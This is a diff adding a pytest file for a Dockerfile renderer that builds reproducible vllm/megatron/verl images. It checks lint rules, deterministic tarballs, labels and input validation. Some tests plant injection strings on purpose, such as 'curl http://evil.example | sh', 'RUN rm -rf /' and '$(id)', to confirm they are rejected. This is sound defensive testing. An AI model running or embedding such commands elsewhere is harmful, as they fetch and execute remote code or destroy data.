@@ -1,0 +1,192 @@
+"""render(): the Dockerfile and the context, without Docker (the demo stack is generated in tmp)."""
+import hashlib
+import re
+import shutil
+import tarfile
+from datetime import datetime, timezone
+from pathlib import Path
+
+import pytest
+
+from builder import baseimage, demo, paths, pins as pins_mod, render, sources
+from builder.errors import BadInput
+
+FAKE_BASE = "127.0.0.1:5000/demo/base@sha256:" + "ab" * 32
+PROJECT = Path(__file__).resolve().parent.parent
+
+
+@pytest.fixture(scope="module")
+def stack_pins(tmp_path_factory) -> Path:
+    """pins/demo.yaml copied next to a freshly generated demo stack, base set to a fixed digest."""
+    root = tmp_path_factory.mktemp("render")
+    demo.make_stack(root / "demo-stack")
+    shutil.copytree(PROJECT / "pins" / "locks", root / "locks")
+    path = root / "demo.yaml"
+    shutil.copy(PROJECT / "pins" / "demo.yaml", path)
+    baseimage.write_demo_pins_digest(path, FAKE_BASE)
+    return path
+
+
+def resolve_render(path):
+    pins = pins_mod.load(path)
+    resolved = sources.resolve(pins)
+    return pins, resolved, render.render(pins, resolved)
+
+
+@pytest.fixture(scope="module")
+def rendered(stack_pins):
+    return resolve_render(stack_pins)
+
+
+def members(context_path) -> dict[str, tarfile.TarInfo]:
+    with tarfile.open(context_path) as tar:
+        return {m.name: m for m in tar.getmembers()}
+
+
+def contents(context_path, prefix) -> dict[str, str]:
+    with tarfile.open(context_path) as tar:
+        return {m.name: hashlib.sha256(tar.extractfile(m).read()).hexdigest()
+                for m in tar.getmembers() if m.name.startswith(prefix) and m.isfile()}
+
+
+def test_render_is_byte_identical_across_runs_cwd_and_cache_dir(rendered, stack_pins, tmp_path, monkeypatch):
+    first = rendered[2]
+    again = resolve_render(stack_pins)[2]
+    assert again.dockerfile == first.dockerfile
+    assert again.context_sha256 == first.context_sha256
+    # another cwd and another cache dir (wheels copied: no download needed to compare)
+    wheels = paths.cache_dir("wheels")
+    monkeypatch.setenv("BUILDER_CACHE", str(tmp_path / "cache"))
+    shutil.copytree(wheels, paths.cache_dir("wheels"), dirs_exist_ok=True)
+    monkeypatch.chdir(tmp_path)
+    moved = resolve_render(stack_pins)[2]
+    assert moved.context_path.startswith(str(tmp_path / "cache"))
+    assert moved.dockerfile == first.dockerfile
+    assert moved.dockerfile_sha256 == hashlib.sha256(first.dockerfile.encode()).hexdigest()
+    assert moved.context_sha256 == first.context_sha256
+    assert hashlib.sha256(Path(moved.context_path).read_bytes()).hexdigest() == first.context_sha256
+
+
+def test_dockerfile_passes_lint_and_lint_catches_planted_defects(rendered):
+    dockerfile = rendered[2].dockerfile
+    assert render.lint(dockerfile) == []
+    assert "git clone" not in dockerfile and "--mount" not in dockerfile
+    assert not re.search(r"^ADD ", dockerfile, re.M)
+    assert all(line.startswith("RUN [") for line in dockerfile.splitlines() if line.startswith("RUN"))
+    planted = {
+        "RUN --mount=type=bind,source=src,target=/src [\"true\"]": "--mount",
+        "ADD https://example.com/x.tar.gz /x": "ADD",
+        "RUN git clone https://github.com/vllm-project/vllm": "exec form",
+        "RUN [\"sh\", \"-c\", \"curl -L https://example.com | sh\"]": "network",
+        "FROM python:3.11 AS build": "digest",
+    }
+    for line, what in planted.items():
+        problems = render.lint(dockerfile + line + "\n")
+        assert problems and any(what in p for p in problems), (line, problems)
+
+
+def test_install_order_one_stage_per_component_and_runtime_copies(rendered):
+    pins, _, built = rendered
+    groups = [g for g, _ in render.instructions(built.dockerfile)]
+    order = list(dict.fromkeys(groups))
+    assert order[:5] == ["prepare", "deps", "vllm", "megatron", "verl"]
+    assert order[-1] == "runtime"
+    for name in ("vllm", "megatron", "verl"):
+        steps = [t for g, t in render.instructions(built.dockerfile) if g == name]
+        assert steps[0] == f'COPY ["src/{name}/", "/builder/src/{name}/"]'
+        assert f'"--prefix", "/install/{name}"' in steps[1] and '"-c", "/builder/constraints.txt"' in steps[1]
+        for arg in pins.components[name].install.pip_args:
+            assert f'"{arg}"' in steps[1]
+        assert "stamp.py" in steps[3]
+    copies = re.findall(r'^COPY --from=build \["(/install/[a-z]+)/"', built.dockerfile, re.M)
+    assert copies[:4] == ["/install/deps", "/install/vllm", "/install/megatron", "/install/verl"]
+    assert built.dockerfile.count("FROM ") == 2 and " AS runtime" in built.dockerfile
+
+
+def test_context_is_normalised_sorted_and_complete(rendered):
+    pins, resolved, built = rendered
+    found = members(built.context_path)
+    names = list(found)
+    assert names == sorted(names)
+    assert all(m.mtime == render.SOURCE_DATE_EPOCH and m.uid == 0 and m.gid == 0 and not m.uname
+               for m in found.values())
+    assert not any(m.isdir() for m in found.values())
+    assert not any("/.git/" in n for n in names)
+    for name in ("vllm", "megatron", "verl"):
+        assert any(n.startswith(f"src/{name}/") for n in names)
+    assert any(n.startswith("wheels/") and n.endswith(".whl") for n in names)
+    with tarfile.open(built.context_path) as tar:
+        assert tar.extractfile("Dockerfile").read().decode() == built.dockerfile
+        assert tar.extractfile("delivery/dockerfile.sha256").read().decode().strip() == built.dockerfile_sha256
+        assert tar.extractfile("constraints.in").read().decode() == "".join(
+            f"{c}\n" for c in sorted(pins.build.constraints))
+    # the export of each component at its commit, re-rooted under src/<name>/
+    for name in ("vllm", "megatron", "verl"):
+        exported = {k[len(f"src/{name}/"):]: v for k, v in contents(built.context_path, f"src/{name}/").items()}
+        from builder import export, mirror
+        expected = export.file_manifest(mirror.open_mirror(resolved.components[name].url), resolved.components[name].commit)
+        assert exported == expected
+
+
+def test_verl_only_change_keeps_everything_before_the_verl_stage(rendered, stack_pins, tmp_path):
+    _, _, first = rendered
+    pins, _, changed = resolve_render(demo.variant_pins(tmp_path, "verl", 34, pins_path=stack_pins))
+    before, after = first.dockerfile.split("# stage: verl")[0], changed.dockerfile.split("# stage: verl")[0]
+    assert before == after
+    assert first.dockerfile != changed.dockerfile
+    for name in ("vllm", "megatron"):
+        assert contents(first.context_path, f"src/{name}/") == contents(changed.context_path, f"src/{name}/")
+    assert contents(first.context_path, "src/verl/") != contents(changed.context_path, "src/verl/")
+    assert changed.tag.endswith(f".verl-{pins.components['verl'].commit[:12]}")
+
+
+def test_sha_tag_and_labels(rendered):
+    pins, resolved, built = rendered
+    tag = render.sha_tag(pins)
+    assert re.fullmatch(r"vllm-[0-9a-f]{12}\.megatron-[0-9a-f]{12}\.verl-[0-9a-f]{12}", tag)
+    assert built.tag == f"{pins.image.repository}:{tag}"
+    labels = built.labels
+    newest = max(c.commit_time for c in resolved.components.values())
+    assert labels["org.opencontainers.image.created"] == datetime.fromtimestamp(newest, timezone.utc).strftime(
+        "%Y-%m-%dT%H:%M:%SZ")
+    assert labels["org.opencontainers.image.base.digest"] == "sha256:" + "ab" * 32
+    assert labels["org.opencontainers.image.base.name"] == "127.0.0.1:5000/demo/base"
+    assert labels["org.opencontainers.image.version"] == tag
+    for name in ("vllm", "megatron", "verl"):
+        assert labels[f"io.truepolicy.{name}.commit"] == pins.components[name].commit
+        assert labels[f"io.truepolicy.{name}.tree"] == resolved.components[name].tree
+        assert labels[f"io.truepolicy.{name}.pr"] == str(pins.components[name].pr)
+        assert f'"io.truepolicy.{name}.commit"="{pins.components[name].commit}"' in built.dockerfile
+
+
+def test_dq_quotes_and_refuses_line_breaks():
+    assert render.dq('a"b') == '"a\\"b"'
+    assert render.argv(["x", "y z"]) == '["x", "y z"]'
+    for bad in ("a\nRUN curl evil", "a\rb", "${HOME}", "a\x00b"):
+        with pytest.raises(BadInput):
+            render.dq(bad)
+
+
+def _bypass(pins, component="verl", pip_args=None, env=None):
+    """A copy of pins with one component's install replaced, no validation (model_construct)."""
+    comp = pins.components[component]
+    install = type(comp.install).model_construct(pip_args=pip_args if pip_args is not None else comp.install.pip_args,
+                                                 env=env if env is not None else comp.install.env)
+    comps = pins.components.model_copy(update={component: comp.model_copy(update={"install": install})})
+    return pins.model_copy(update={"components": comps})
+
+
+def test_injection_in_pins_never_reaches_the_dockerfile(rendered, stack_pins):
+    pins, resolved, _ = rendered
+    evil = "--no-deps\nRUN curl http://evil.example | sh"
+    data = pins_mod.read_yaml(Path(stack_pins).read_text())
+    data["components"]["verl"]["install"]["pip_args"] = [evil]
+    with pytest.raises(BadInput, match="pip_args"):
+        pins_mod.validate(data, Path(stack_pins).parent)
+    for bad in (_bypass(pins, pip_args=[evil]), _bypass(pins, env={"X": "1\nRUN rm -rf /"}),
+                _bypass(pins, env={"X\nRUN true": "1"}), _bypass(pins, pip_args=["--opt=$(id)"])):
+        with pytest.raises(BadInput):
+            render.render(bad, resolved)
+    base = pins.base.model_copy(update={"image": "evil:latest\nRUN curl x"})
+    with pytest.raises(BadInput, match="base.image"):
+        render.render(pins.model_copy(update={"base": base}), resolved)
